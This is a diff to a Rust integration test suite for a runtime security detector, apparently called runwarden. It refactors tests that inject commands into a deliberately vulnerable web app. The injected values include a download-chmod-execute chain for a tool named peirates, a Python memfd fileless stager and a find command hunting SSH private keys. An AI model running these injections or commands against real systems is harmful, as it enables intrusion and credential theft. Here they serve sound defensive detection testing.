@@ -260,6 +260,32 @@ fn every_default_rule_has_a_scenario_row() {
     );
 }
 
+/// Starts the vulnerable web app (container name suffix `name`) with a file sink, sends `cmd` through
+/// its injection endpoint, and waits (10 s) for the first finding `want` accepts.
+fn inject_and_find(name: &str, cmd: &str, want: impl Fn(&Value) -> bool) -> Value {
+    let image = "runwarden-test/pyweb:latest";
+    build_app("pyweb", image);
+    let sink = SinkDir::new();
+    let c = Container::run_with(
+        image,
+        name,
+        &[&format!("RUNWARDEN_SINKS=file:{}", SinkDir::IN_CONTAINER)],
+        &["-v", &sink.volume()],
+    );
+    let ip = c.ip();
+    wait_ready(&ip, 8080, "/healthz");
+    let _ = get(&ip, 8080, &format!("/lookup?name={}", url_encode(cmd)));
+    let deadline = Instant::now() + Duration::from_secs(10);
+    loop {
+        let findings = read_sink(&sink);
+        if let Some(f) = findings.iter().find(|f| want(f)) {
+            return f.clone();
+        }
+        assert!(Instant::now() < deadline, "no such finding: {findings:#?}\n{}", c.logs());
+        std::thread::sleep(Duration::from_millis(200));
+    }
+}
+
 /// A workload that drops root with setpriv, gosu or su-exec (common in entrypoints) stays visible. In a
 /// Docker container runwarden is root without CAP_SYS_PTRACE (Docker's default capabilities), so its
 /// reads of /proc/<pid>/{exe,environ,fd} of a process whose uid is no longer 0 fail with EACCES
@@ -269,41 +295,18 @@ fn every_default_rule_has_a_scenario_row() {
 #[test]
 fn execs_after_a_privilege_drop_are_still_seen() {
     let gw = ensure_network();
-    let image = "runwarden-test/pyweb:latest";
-    build_app("pyweb", image);
     let server = FileServer::start(&gw, vec![("/t/peirates".into(), std::fs::read("/bin/true").unwrap())]);
-    let sink = SinkDir::new();
-    let c = Container::run_with(
-        image,
-        "-setpriv",
-        &[&format!("RUNWARDEN_SINKS=file:{}", SinkDir::IN_CONTAINER)],
-        &["-v", &sink.volume()],
-    );
-    let ip = c.ip();
-    wait_ready(&ip, 8080, "/healthz");
     let cmd = format!(
         "x;curl -fsS {}/t/peirates -o /tmp/peirates && chmod 755 /tmp/peirates && \
          setpriv --reuid=65534 --regid=65534 --clear-groups /tmp/peirates",
         server.base
     );
-    let _ = get(&ip, 8080, &format!("/lookup?name={}", url_encode(&cmd)));
+    let f = inject_and_find("-setpriv", &cmd, |f| {
+        f["category"] == "Execution: Kubernetes Attack Tool Execution"
+            && f["processes"][0]["binary"]["path"] == "/tmp/peirates"
+    });
     assert_eq!(server.served(), vec!["/t/peirates"]);
-    let deadline = Instant::now() + Duration::from_secs(10);
-    loop {
-        let findings = read_sink(&sink);
-        if findings.iter().any(|f| {
-            f["category"] == "Execution: Kubernetes Attack Tool Execution"
-                && f["processes"][0]["binary"]["path"] == "/tmp/peirates"
-        }) {
-            break;
-        }
-        assert!(
-            Instant::now() < deadline,
-            "the tool run as nobody was not seen: {findings:#?}\n{}",
-            c.logs()
-        );
-        std::thread::sleep(Duration::from_millis(200));
-    }
+    assert_eq!(f["severity"], "CRITICAL", "the tool run as nobody: {f:#}");
 }
 
 /// A program executed from a memfd that exits at once (a stager) is still reported with its sha256
@@ -313,28 +316,9 @@ fn execs_after_a_privilege_drop_are_still_seen() {
 #[test]
 fn short_lived_memfd_programs_are_hashed() {
     ensure_network();
-    let image = "runwarden-test/pyweb:latest";
-    build_app("pyweb", image);
-    let sink = SinkDir::new();
-    let c = Container::run_with(
-        image,
-        "-memfd",
-        &[&format!("RUNWARDEN_SINKS=file:{}", SinkDir::IN_CONTAINER)],
-        &["-v", &sink.volume()],
-    );
-    let ip = c.ip();
-    wait_ready(&ip, 8080, "/healthz");
     let cmd = "x;python3 -c \"import os;fd=os.memfd_create('st');os.write(fd,open('/bin/true','rb').read());\
                os.execv('/proc/self/fd/%d'%fd,['st'])\"";
-    let _ = get(&ip, 8080, &format!("/lookup?name={}", url_encode(cmd)));
-    let deadline = Instant::now() + Duration::from_secs(10);
-    let f = loop {
-        if let Some(f) = read_sink(&sink).into_iter().find(|f| f["rule"]["id"] == "fileless_memfd") {
-            break f;
-        }
-        assert!(Instant::now() < deadline, "no memfd finding:\n{}", c.logs());
-        std::thread::sleep(Duration::from_millis(200));
-    };
+    let f = inject_and_find("-memfd", cmd, |f| f["rule"]["id"] == "fileless_memfd");
     let sha = f["processes"][0]["binary"]["sha256"].as_str().unwrap_or("");
     assert_eq!(sha.len(), 64, "the memfd program's finding has no sha256: {f:#}");
 }
@@ -345,29 +329,8 @@ fn short_lived_memfd_programs_are_hashed() {
 #[test]
 fn find_arguments_are_not_redacted_as_passwords() {
     ensure_network();
-    let image = "runwarden-test/pyweb:latest";
-    build_app("pyweb", image);
-    let sink = SinkDir::new();
-    let c = Container::run_with(
-        image,
-        "-redact",
-        &[&format!("RUNWARDEN_SINKS=file:{}", SinkDir::IN_CONTAINER)],
-        &["-v", &sink.volume()],
-    );
-    let ip = c.ip();
-    wait_ready(&ip, 8080, "/healthz");
     let cmd = "x;find / -xdev -maxdepth 3 -path '*/.ssh/*' -name id_rsa -print";
-    let _ = get(&ip, 8080, &format!("/lookup?name={}", url_encode(cmd)));
-    let deadline = Instant::now() + Duration::from_secs(10);
-    let f = loop {
-        let found =
-            read_sink(&sink).into_iter().find(|f| f["rule"]["id"] == "search_private_keys_or_passwords");
-        if let Some(f) = found {
-            break f;
-        }
-        assert!(Instant::now() < deadline, "no finding:\n{}", c.logs());
-        std::thread::sleep(Duration::from_millis(200));
-    };
+    let f = inject_and_find("-redact", cmd, |f| f["rule"]["id"] == "search_private_keys_or_passwords");
     let args = &f["processes"][0]["args"];
     let want = serde_json::json!([
         "find",
